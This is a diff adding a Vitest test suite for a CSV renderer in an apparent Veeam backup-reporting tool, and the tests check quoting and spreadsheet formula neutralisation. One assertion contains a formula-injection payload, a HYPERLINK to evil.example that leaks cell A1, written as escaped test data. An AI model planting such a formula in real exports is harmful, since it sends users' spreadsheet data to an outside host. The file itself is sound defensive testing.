@@ -1,0 +1,172 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { CsvTable } from '../src/render/render-csv.js';
+import { renderCsv } from '../src/render/render-csv.js';
+import { ReportError } from '../src/report-error.js';
+import {
+  HOSTILE_NAMES,
+  hostileReport,
+  jobReport,
+  sessionReport,
+  smallReport,
+  vmReport,
+} from './render-fixtures.js';
+
+const records = (...text: string[]) => `${text.join('\r\n')}\r\n`;
+
+/** A strict RFC 4180 parser: records end in CRLF, quoted fields double their quotes. */
+function parseCsv(csv: string): string[][] {
+  const parsed: string[][] = [];
+  let record: string[] = [];
+  let index = 0;
+  while (index < csv.length) {
+    let field = '';
+    if (csv[index] === '"') {
+      index += 1;
+      for (;;) {
+        const quote = csv.indexOf('"', index);
+        if (quote < 0) throw new Error(`unterminated quoted field at ${index}`);
+        field += csv.slice(index, quote);
+        index = quote + 1;
+        if (csv[index] !== '"') break;
+        field += '"';
+        index += 1;
+      }
+    } else {
+      const end = csv.slice(index).search(/[,\r\n"]/);
+      field = end < 0 ? csv.slice(index) : csv.slice(index, index + end);
+      index += field.length;
+    }
+    record.push(field);
+    if (csv[index] === ',') {
+      index += 1;
+    } else if (csv.startsWith('\r\n', index)) {
+      parsed.push(record);
+      record = [];
+      index += 2;
+    } else {
+      throw new Error(`expected , or CRLF at ${index}, not ${JSON.stringify(csv[index])}`);
+    }
+  }
+  if (record.length > 0) throw new Error('the last record has no CRLF');
+  return parsed;
+}
+
+const JOB_HEADER =
+  'job_uid,job_name,job_type,backup_server,source,health,reasons,runs,attempts,successful_runs,' +
+  'warning_runs,failed_runs,success_rate,last_result,last_run_at,last_success_at,' +
+  'last_success_age_seconds,rpo_seconds,rpo_breached,consecutive_failures,running_since,' +
+  'running_elapsed_seconds,duration_p50_seconds,duration_p95_seconds,duration_max_seconds,' +
+  'duration_samples,slower_than_usual';
+const VM_HEADER =
+  'vm_name,job_name,health,last_result,last_run_at,last_success_at,last_success_age_seconds,' +
+  'rpo_seconds,rpo_breached,top_failure_reason,top_failure_example,top_failure_count';
+
+describe('renderCsv', () => {
+  it('writes the jobs table by default', () => {
+    expect(renderCsv(smallReport())).toBe(
+      records(
+        JOB_HEADER,
+        'urn:veeam:Job:00000000-0000-0000-0000-000000000002,Nightly SQL,Backup,vbr01,,critical,' +
+          '2 failed runs in a row; no success for 2d 4h (RPO 1d),14,16,8,0,6,0.5714285714285714,' +
+          'Failed,2025-09-23T20:00:00.000Z,2025-09-22T04:00:00.000Z,187200,86400,true,2,' +
+          '2025-09-24T04:40:00.000Z,12000,1800,5400,7200,13,true',
+        'urn:veeam:Job:00000000-0000-0000-0000-000000000003,File server,Backup,vbr01,,warning,' +
+          'last run ended with a warning,7,7,6,1,0,0.8571428571428571,Warning,' +
+          '2025-09-23T23:40:00.000Z,2025-09-22T23:40:00.000Z,30000,86400,false,0,,,2400,3000,3100,7,false',
+        'urn:veeam:Job:00000000-0000-0000-0000-000000000004,Replica DC,Replica,,,ok,,3,3,3,0,0,1,' +
+          'Success,2025-09-24T07:00:00.000Z,2025-09-24T07:00:00.000Z,3600,86400,false,0,,,,,,,false',
+      ),
+    );
+    expect(renderCsv(smallReport(), { table: 'jobs' })).toBe(renderCsv(smallReport()));
+  });
+
+  it('writes the VMs table with each VM’s most frequent failure reason', () => {
+    expect(renderCsv(smallReport(), { table: 'vms' })).toBe(
+      records(
+        VM_HEADER,
+        'sql01,Nightly SQL,critical,Failed,2025-09-23T20:00:00.000Z,2025-09-22T04:00:00.000Z,' +
+          '187200,86400,true,Failed to create VM snapshot on host <host>,' +
+          'Failed to create VM snapshot on host esx01,4',
+        'sql02,Nightly SQL,ok,Success,2025-09-24T07:00:00.000Z,2025-09-24T07:00:00.000Z,3600,' +
+          '86400,false,Timed out after <n> s,Timed out after 600 s,3',
+      ),
+    );
+  });
+
+  it('writes the days table', () => {
+    expect(renderCsv(smallReport(), { table: 'days' })).toBe(
+      records(
+        'date,successful_runs,warning_runs,failed_runs',
+        '2025-09-17,1,0,2',
+        '2025-09-18,2,0,0',
+        '2025-09-19,3,0,0',
+        '2025-09-20,4,0,2',
+        '2025-09-21,5,0,0',
+        '2025-09-22,6,0,0',
+        '2025-09-23,7,0,2',
+      ),
+    );
+  });
+
+  it('writes only the header row of an empty window, and every day of it', () => {
+    expect(renderCsv(sessionReport())).toBe(records(JOB_HEADER));
+    expect(renderCsv(sessionReport(), { table: 'vms' })).toBe(records(VM_HEADER));
+    expect(parseCsv(renderCsv(sessionReport(), { table: 'days' }))).toHaveLength(8);
+  });
+
+  it('writes a negative number as a number, but prefixes text that starts with -', () => {
+    const report = smallReport();
+    report.jobs = [
+      jobReport({ jobName: '-cmd', jobType: '-5', lastSuccessAgeSeconds: -5, reasons: ['-2+3'] }),
+    ];
+    const [, row] = parseCsv(renderCsv(report));
+    expect(row?.slice(1, 3)).toEqual(["'-cmd", "'-5"]);
+    expect(row?.[6]).toBe("'-2+3");
+    expect(row?.[16]).toBe('-5');
+  });
+
+  it('quotes per RFC 4180 and neutralises formulas in every text cell', () => {
+    const report = hostileReport();
+    for (const table of ['jobs', 'vms'] as const) {
+      const csv = renderCsv(report, { table });
+      expect(csv.replace(/"(?:[^"]|"")*"/g, '')).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
+      const [header, ...rows] = parseCsv(csv);
+      expect(rows).toHaveLength(HOSTILE_NAMES.length);
+      for (const row of rows) {
+        expect(row).toHaveLength(header?.length ?? 0);
+        for (const field of row) expect(field).not.toMatch(/^[=+@\t\r]|^-(?!\d+(?:\.\d+)?$)/);
+      }
+    }
+    const [, ...jobRows] = parseCsv(renderCsv(report));
+    expect(jobRows.map((row) => row[1])).toEqual(
+      HOSTILE_NAMES.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)),
+    );
+    expect(renderCsv(report)).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",`);
+  });
+
+  it('reads back to the text it was given, whatever the text', () => {
+    fc.assert(
+      fc.property(
+        fc.string({ unit: 'binary' }),
+        fc.string({ unit: 'binary' }),
+        (vmName, example) => {
+          const report = smallReport();
+          report.vms = [
+            vmReport({ vmName, failureReasons: [{ normalized: 'x', example, count: 1 }] }),
+          ];
+          const [, row] = parseCsv(renderCsv(report, { table: 'vms' }));
+          const neutralised = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+          expect(row?.[0]).toBe(neutralised(vmName));
+          expect(row?.[10]).toBe(neutralised(example));
+        },
+      ),
+    );
+  });
+
+  it('refuses a table it does not know', () => {
+    expect(() => renderCsv(smallReport(), { table: 'groups' as CsvTable })).toThrow(
+      new ReportError('invalid-option', 'table must be jobs, vms or days, not "groups"'),
+    );
+  });
+});
